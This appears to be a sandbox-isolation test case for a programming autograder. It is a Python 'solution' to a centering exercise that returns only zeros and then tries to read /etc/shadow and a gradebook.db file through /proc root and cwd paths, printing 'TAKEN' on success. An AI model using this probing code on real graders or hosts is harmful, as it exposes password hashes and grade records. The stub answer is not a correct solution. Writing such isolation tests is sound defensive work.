# exercise: broadcasting_rules/center
# tries: to read the host's files through the roots of other processes
# must: nothing of it is seen, the answer is judged as it is
# seen: isolate, CMS and DMOJ test the like
# %% solution
import numpy as np
def center(X, axis):
    return np.zeros(np.shape(X))
import os
for path in ['/proc/1/root/etc/shadow', '/proc/self/root/etc/shadow', '/proc/1/cwd/gradebook.db', '/proc/self/cwd/../../../etc/shadow']:
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(200)
        if found:
            print("taken".upper(), path)
    except OSError as error:
        print(error.errno)
